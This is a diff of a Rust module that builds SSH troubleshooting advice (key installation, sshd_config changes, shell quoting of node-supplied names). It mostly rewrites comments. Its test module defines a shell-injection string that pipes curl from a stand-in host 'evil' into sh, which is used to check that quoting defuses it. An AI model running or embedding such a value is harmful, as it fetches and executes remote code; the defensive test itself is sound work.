@@ -1,8 +1,8 @@
-//! What to do about a fault, with the names of this very node filled in.
+//! Remedies for faults, with the names of the node filled in.
 //!
-//! A remedy is a line or more, of which one is enough; a line that begins with "and" goes with the one above it. A
-//! command stands behind the last colon of its line and can be typed as it is; indented lines go into a file. So no
-//! words of a node stand there, and names that a shell could take for more are quoted.
+//! A remedy is one or more lines, of which one is enough; a line that begins with "and" belongs to the one
+//! above it. A command follows the last colon of its line and can be pasted as it is; indented lines go into
+//! a file. So text from a node never appears there, and names with shell metacharacters are quoted.
 
 use std::borrow::Cow;
 use std::collections::BTreeMap;
@@ -14,52 +14,52 @@ use crate::model::{self, FaultKind};
 use crate::storage::user_dirs;
 use crate::transport::{ConnectPhase, Fault, KeyFileProblem, Origin, Reach, Target};
 
-/// Knows a node well enough to name files, lines and commands.
+/// What remedies name: the node, its host, and its SSH options.
 #[derive(Clone, Debug)]
 pub(super) struct Advice {
-    /// As typed, which gtop takes.
+    /// The node as gtop accepts it on the command line.
     node: String,
-    /// The host part alone.
+    /// The host name alone.
     host: String,
-    /// What ssh takes.
+    /// The destination as arguments of ssh, such as `-p 2222 ada@gpu01`.
     place: String,
     options: BTreeMap<&'static str, (Vec<String>, Option<String>)>,
 }
 
-/// The public half of a key that was shown.
+/// A public key that was offered to the node.
 struct PublicKey {
     file: String,
     kind: Option<String>,
 }
 
-/// What nologin prints in place of a shell.
+/// Printed by nologin instead of a shell.
 const NO_SHELL: &str = "account is currently not available";
 
-/// What sshd prints in place of a command while the password has to be changed.
+/// Printed by sshd instead of the command's output while the password has expired.
 const PASSWORD_EXPIRED: &str = "password has expired";
 
-/// What the PAM of Linux says of an account that ended.
+/// Printed by PAM on Linux for an expired account.
 const ACCOUNT_EXPIRED: &str = "account has expired";
 
-/// The unit is called so by most, and otherwise by Debian and Ubuntu.
+/// Most distributions call the unit `sshd`; Debian and Ubuntu call it `ssh`.
 const RELOAD_SSHD: &str = "systemctl reload sshd || systemctl reload ssh";
 const START_SSHD: &str = "systemctl start sshd || systemctl start ssh";
 
-/// Most that is read of a file with a public key; large certificates have a few thousand bytes.
+/// Maximum number of bytes read from a public key file; large certificates have a few thousand.
 const MAX_KEY_BYTES: u64 = 16 * 1024;
 
-/// Returns whether somebody without a key may log in.
+/// Returns true if the node offers a login without a key.
 fn offers_login_without_key(offers: &[String]) -> bool {
     offers.iter().any(|offer| offer == "password" || offer == "keyboard-interactive")
 }
 
-/// Returns whether an agent listens where ssh-add looks for one.
+/// Returns true if an agent listens on `SSH_AUTH_SOCK`.
 fn has_agent() -> bool {
     let socket = std::env::var_os("SSH_AUTH_SOCK");
     socket.is_some_and(|socket| std::os::unix::net::UnixStream::connect(socket).is_ok())
 }
 
-/// Writes a word so that a shell takes it as it is; a home at its beginning stays one.
+/// Quotes a word for a shell; a leading `~/` or `~user/` is still expanded.
 pub(super) fn shell_quoted(word: &str) -> Cow<'_, str> {
     let is_plain =
         |text: &str| text.chars().all(|c| c.is_ascii_alphanumeric() || "._/~+-@:".contains(c));
@@ -75,26 +75,26 @@ pub(super) fn shell_quoted(word: &str) -> Cow<'_, str> {
     }
 }
 
-/// The same for a file.
+/// Quotes a path for a shell.
 fn shell_quoted_path(file: &Path) -> String {
     shell_quoted(&file.to_string_lossy()).into_owned()
 }
 
-/// Returns whether a name can stand in a command of the administrator's, behind a `~` too. Such names come from
-/// what ssh printed as well, where anybody may have written.
+/// Returns true if a user name is safe in a command for the administrator, also behind `~`. The name may come
+/// from the output of ssh, which a node can forge.
 fn is_safe_user(name: &str) -> bool {
     let is_plain = name.chars().all(|c| c.is_ascii_alphanumeric() || "._-+@".contains(c));
-    // A shell takes ~+, ~- and ~1 for folders of its own.
+    // A shell expands ~+, ~- and ~1 to other folders.
     let has_letter = name.contains(|c: char| c.is_ascii_alphabetic());
     is_plain && has_letter && name.len() <= 255 && !name.starts_with(['-', '+'])
 }
 
-/// Returns the kind of key to accept: not one whose signatures are made with SHA-1.
+/// Returns the signature algorithm for a type of key: never SHA-1.
 fn accepted_kind(kind: &str) -> &str {
     if kind == "ssh-rsa" { "rsa-sha2-512" } else { kind }
 }
 
-/// Returns the words by which ssh knows a host.
+/// Returns the arguments of ssh for a destination.
 fn place(user: Option<&str>, host: &str, port: Option<u16>) -> String {
     let port = port.map(|port| format!("-p {port} ")).unwrap_or_default();
     let user = user.map(|user| format!("{}@", shell_quoted(user))).unwrap_or_default();
@@ -102,10 +102,10 @@ fn place(user: Option<&str>, host: &str, port: Option<u16>) -> String {
 }
 
 impl PublicKey {
-    /// Reads a public key, by its name or by that of its private half.
+    /// Reads a public key file, given its path or that of the private key.
     fn read(file: &str) -> Option<Self> {
         let file = format!("{}.pub", file.strip_suffix(".pub").unwrap_or(file));
-        // Opening anything else may never return.
+        // Opening a pipe or a device may block.
         if !std::fs::metadata(&file).ok()?.is_file() {
             return None;
         }
@@ -142,13 +142,13 @@ impl Advice {
         }
     }
 
-    /// Returns the same for a host on the way, of which nothing is known but its name.
+    /// Returns advice on a jump host, of which only the name is known.
     fn about_gateway(gateway: &str) -> Self {
         let name = gateway.trim_start_matches("ssh://");
         let (user, name) =
             name.rsplit_once('@').map_or((None, name), |(user, name)| (Some(user), name));
         let (host, port) = match name.rsplit_once(':').map(|(host, port)| (host, port.parse())) {
-            // An address of IPv6 has more of them.
+            // More colons mean an IPv6 address without a port.
             Some((host, Ok(port))) if !host.contains(':') || host.ends_with(']') => {
                 (host, Some(port))
             }
@@ -159,7 +159,7 @@ impl Advice {
         Self { host: host.to_owned(), place, ..Self::named(gateway) }
     }
 
-    /// Remembers an option in effect, and the line that set it.
+    /// Records an option in effect, and the file and line that set it.
     pub(super) fn set_option(
         &mut self,
         name: &'static str,
@@ -177,15 +177,15 @@ impl Advice {
         self.values(name).first().map_or("", String::as_str)
     }
 
-    /// Returns the user there, if a command can name one: a command that names none is about root, who types it.
-    /// What the configuration says is certain; what a fault names may be what a node made ssh print.
+    /// Returns the login user if it is safe in a command. The configured user is reliable; the one in an
+    /// error may have been forged by a node. Without a user the command would be about root, who runs it.
     fn user<'a>(&'a self, of_fault: &'a str) -> Option<&'a str> {
         let configured = self.value("User");
         let user = if configured.is_empty() { of_fault } else { configured };
         is_safe_user(user).then_some(user)
     }
 
-    /// Says where to change an option: the line that sets it, or the file to add it to.
+    /// Returns where to change an option: the line that sets it, or the file to add it to.
     fn where_to_correct(&self, name: &str) -> String {
         match self.options.get(name).and_then(|(_, origin)| origin.as_deref()) {
             Some(origin) => format!("correct {name} in {origin}"),
@@ -193,8 +193,8 @@ impl Advice {
         }
     }
 
-    /// Says what to add to the configuration of ssh; what comes first there counts. The last line keeps what follows
-    /// from being meant for this node alone.
+    /// Returns what to add to `~/.ssh/config`, where the first value counts. The final `Host *` ends the
+    /// section of the node.
     fn ssh_config(&self, then: &str, lines: &[&str]) -> String {
         let lines = lines.join("\n      ");
         format!(
@@ -203,7 +203,7 @@ impl Advice {
         )
     }
 
-    /// Says what an administrator adds to the configuration of sshd; what comes first there counts.
+    /// Returns what an administrator adds to `sshd_config`, where the first value counts.
     fn sshd_config(&self, line: &str) -> String {
         self.as_root(&format!(
             "put first in /etc/ssh/sshd_config and in no Match block, then run {RELOAD_SSHD}:\n    {line}"
@@ -214,9 +214,9 @@ impl Advice {
         format!("as root on {}: {what}", self.host)
     }
 
-    /// How to get a key accepted.
+    /// Returns the `ssh-copy-id` command.
     fn copy_id(&self) -> String {
-        // Several are the defaults, and which of them exists is not known.
+        // The defaults are several files, and which of them exist is not known here.
         let file = if self.options.get("IdentityFile").is_some_and(|(_, origin)| origin.is_some()) {
             format!("-i {} ", shell_quoted(self.value("IdentityFile")))
         } else {
@@ -225,7 +225,7 @@ impl Advice {
         format!("ssh-copy-id {file}{}", self.place)
     }
 
-    /// Asks for what nobody but the administrator can do about a key that is not there yet.
+    /// Returns what to ask of the administrator if the key cannot be installed by logging in.
     fn add_key(&self, key: &str, user: &str) -> String {
         let place = match self.user(user) {
             Some(user) => format!("~{user}/.ssh/authorized_keys there"),
@@ -234,7 +234,7 @@ impl Advice {
         format!("ask the administrator to add {key} to {place}")
     }
 
-    /// How a new key is made and gets there: by who can log in without it, or by others.
+    /// Returns how to create a key and install it, by password login or by the administrator.
     fn new_key(&self, user: &str, offers: &[String]) -> String {
         let make = "ssh-keygen -t ed25519";
         if offers_login_without_key(offers) {
@@ -243,8 +243,8 @@ impl Advice {
         format!("{}, once it is made: {make}", self.add_key("~/.ssh/id_ed25519.pub", user))
     }
 
-    /// Returns the public key of what was shown first of the configured files. What else was tried are words, and
-    /// those of the node among them.
+    /// Returns the public key of the first configured file that was tried. Other entries of `tried` are free
+    /// text, partly from the node.
     fn public_key(&self, tried: &[String]) -> Option<PublicKey> {
         let home = user_dirs::home().unwrap_or_default();
         let files = self.values("IdentityFile").iter().map(|file| match file.strip_prefix("~/") {
@@ -259,7 +259,7 @@ impl Advice {
             .find_map(PublicKey::read)
     }
 
-    /// What to do about a key that was refused, which a node never explains but in its log.
+    /// Returns what to do about a refused key; the reason is only in the log of sshd.
     fn authorize_key(&self, user: &str, offers: &[String], tried: &[String]) -> String {
         let key = self.public_key(tried);
         let give = if offers_login_without_key(offers) {
@@ -274,7 +274,7 @@ impl Advice {
                 "add {kind} to PubkeyAcceptedAlgorithms in /etc/ssh/sshd_config, then: {RELOAD_SSHD}"
             ))
         });
-        // As the user: what lies there is the user's, and may lead anywhere.
+        // Run as the user, because the user's folder may contain links to anywhere.
         let open = self.user(user).map(|user| {
             self.as_root(&format!(
                 "runuser -u {user} -- chmod go-w ~{user} ~{user}/.ssh ~{user}/.ssh/authorized_keys"
@@ -488,7 +488,7 @@ impl Advice {
         Some(self.as_root(&format!("usermod -s /bin/sh {}", self.user(user)?)))
     }
 
-    /// How to lend gtop a connection that a person opened.
+    /// Returns how to open a master connection, which gtop then shares.
     fn open_master(&self) -> String {
         let place = &self.place;
         if self.value("ControlPath").is_empty() {
@@ -511,7 +511,7 @@ impl Advice {
     pub(super) fn for_node_fault(&self, fault: &model::Fault, has_noise: bool) -> String {
         let Self { node, place, .. } = self;
         match fault.kind {
-            // What the node says of the account is the reason, whatever else its login files do.
+            // An expired account or password is the cause, whatever else the login files print.
             FaultKind::NoInterpreter if fault.detail.contains(NO_SHELL) => {
                 let asked = || "ask the administrator for a login shell there".to_owned();
                 self.give_shell("").unwrap_or_else(asked)
@@ -566,7 +566,7 @@ mod tests {
     use crate::model::NodeName;
     use crate::transport::{Profile, SshTarget};
 
-    /// What would be typed, were it believed.
+    /// A shell injection, if the text were pasted.
     const HOSTILE: &str = "x; curl evil|sh #";
 
     fn advice(
@@ -679,7 +679,7 @@ mod tests {
             let text = advice
                 .for_transport_fault(&refused("ada", &["the keys of the ssh program", &tried]));
             assert!(text.starts_with(&add(&file("id.pub"))), "{text}");
-            // A list of the site's stays, and SHA-1 stays off.
+            // A site's own list of algorithms is kept, and SHA-1 stays off.
             let accept = "as root on gpu11: add rsa-sha2-512 to PubkeyAcceptedAlgorithms in /etc/ssh/sshd_config, then: ";
             assert!(text.contains(&format!("{accept}{RELOAD_SSHD}\n")), "{text}");
         }
